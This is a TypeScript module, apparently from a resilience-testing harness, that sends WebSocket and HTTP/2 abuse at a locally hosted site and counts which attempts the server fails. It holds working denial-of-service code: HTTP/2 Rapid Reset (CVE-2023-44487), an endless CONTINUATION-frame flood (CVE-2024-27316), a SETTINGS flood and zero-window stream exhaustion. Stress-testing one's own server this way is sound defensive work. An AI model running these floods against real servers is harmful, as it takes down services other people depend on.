import { type ClientHttp2Session, connect as connectHttp2, type Settings } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { ask } from '../ask.ts';
import { type Attack, type AttackContext, atRate } from '../attack.ts';
import { openRaw, type RawOptions } from '../raw.ts';
import type { Tally } from '../tally.ts';

/** WebSockets where there are none, and HTTP/2 that no client speaks. */
export const protocols: Attack = {
  name: 'WebSocket and HTTP/2 abuse',
  run: (context, tally) =>
    atRate(2, context, tally, async (n) => {
      const from = `127.0.10.${1 + (n % 100)}`;
      await context.random.pick([webSocket, oddUpgrade, rapidReset, endlessHead, floodOfSettings, silentStreams])(
        context,
        tally,
        from,
      );
    }),
};

type Abuse = (context: AttackContext, tally: Tally, from: string) => Promise<void>;

const webSocket: Abuse = async ({ site, random }, tally, from) => {
  const headers = {
    connection: 'Upgrade',
    upgrade: 'websocket',
    'sec-websocket-version': '13',
    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
  };
  const path = random.pick(['/blog/', '/blog/api/posts', '/api/me', '/events', '/health']);
  const { status } = await ask({ port: site.port, path, headers, from });
  tally.count(`WebSocket ${status}`);
  if (status === 101 || status >= 500) tally.breach(`a WebSocket at ${path}: ${status}`);
};

const oddUpgrade: Abuse = async ({ site, random }, tally, from) => {
  const headers = { connection: 'Upgrade, HTTP2-Settings', upgrade: random.pick(['h2c', 'TLS/1.0', 'a, b']) };
  const { status } = await ask({ port: site.port, path: '/blog/', headers, from });
  tally.count(`upgrade ${status}`);
  if (status === 101 || status >= 500) tally.breach(`an upgrade to ${headers.upgrade}: ${status}`);
};

async function openHttp2(options: RawOptions, settings: Settings = {}): Promise<ClientHttp2Session> {
  const socket = await openRaw(options);
  const session = connectHttp2(`http://127.0.0.1:${options.port}`, { createConnection: () => socket, settings });
  session.on('error', () => {});
  return session;
}

/** CVE-2023-44487: streams are opened and cancelled at once. */
const rapidReset: Abuse = async ({ site }, tally, from) => {
  const session = await openHttp2({ port: site.port, from });
  for (let n = 0; n < 100 && !session.destroyed; n++) {
    const stream = session.request({ ':path': '/blog/', ':method': 'GET' });
    stream.on('error', () => {}).close(8);
  }
  await sleep(500);
  session.destroy();
  tally.count('100 streams reset');
};

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** CVE-2024-27316: a head that goes on in CONTINUATION frames without end. */
const endlessHead: Abuse = async (context, tally, from) => {
  const piece = frame(0x9, 0, 1, Buffer.alloc(16_000, 0x40));
  await flood(context, tally, { from, kind: 'endless head', first: frame(0x1, 0, 1, Buffer.from([0x82])), piece });
};

const floodOfSettings: Abuse = async (context, tally, from) => {
  const piece = Buffer.concat(Array.from({ length: 1_000 }, () => frame(0x4, 0, 0, Buffer.alloc(0))));
  await flood(context, tally, { from, kind: 'settings', first: Buffer.alloc(0), piece });
};

interface Flood {
  from: string;
  kind: string;
  first: Buffer;
  piece: Buffer;
}

/** Sends a megabyte of it at most, and reads nothing. */
async function flood({ site }: AttackContext, tally: Tally, { from, kind, first, piece }: Flood): Promise<void> {
  const socket = await openRaw({ port: site.port, from });
  socket.write(Buffer.concat([preface, frame(0x4, 0, 0, Buffer.alloc(0)), first]));
  let sent = 0;
  for (; sent < 1_000_000 && !socket.destroyed; sent += piece.length) {
    socket.write(piece);
    await sleep(5);
  }
  tally.count(`${kind}: ${socket.destroyed ? 'ended by the server' : 'sent'}`);
  socket.destroy();
}

/** Streams with a window of nothing: their answers cannot be sent. */
const silentStreams: Abuse = async ({ site }, tally, from) => {
  const session = await openHttp2({ port: site.port, from }, { initialWindowSize: 0 });
  for (let n = 0; n < 20 && !session.destroyed; n++)
    session.request({ ':path': '/docs/api/openapi.json' }).on('error', () => {});
  await sleep(5_000);
  tally.count('20 streams without a window');
  session.destroy();
};
